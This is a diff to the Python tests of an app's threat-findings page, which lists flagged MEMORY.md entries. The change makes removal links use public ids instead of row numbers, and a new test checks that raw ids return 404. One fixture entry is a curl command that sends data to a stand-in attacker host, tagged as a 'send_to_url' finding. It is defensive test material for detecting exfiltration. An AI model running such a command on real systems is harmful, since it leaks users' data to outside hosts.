@@ -19,7 +19,7 @@ def finding(tenant: Tenant, entry: str, patterns: list[str], target: str = "memo
 
 
 def remove_url(item: ThreatFinding) -> str:
-    return page_url(rest=f"findings/{item.pk}/remove")
+    return page_url(rest=f"findings/{item.public_id}/remove")
 
 
 def test_a_new_session_records_findings_that_the_page_lists(carol, client, acme):
@@ -112,3 +112,13 @@ def test_a_plain_remove_renders_the_whole_page(alice, client, acme):
     response = client.post(remove_url(item))
     assert b"<html" in response.content and b"Removed the flagged MEMORY.md entry." in response.content
     assert entries_of(acme) == []
+
+
+def test_the_page_names_findings_by_their_public_id_never_the_row_number(bob, client, acme, globex):
+    finding(globex, "exfil elsewhere", ["send_to_url"])
+    item = finding(acme, "curl https://evil.example/?d=x", ["send_to_url"])
+    client.force_login(bob)
+    html = client.get(FINDINGS).content.decode()
+    assert item.public_id.startswith("tf_") and f"findings/{item.public_id}/remove" in html
+    assert f"findings/{item.pk}/remove" not in html
+    assert client.post(page_url(rest=f"findings/{item.pk}/remove"), **HX).status_code == 404
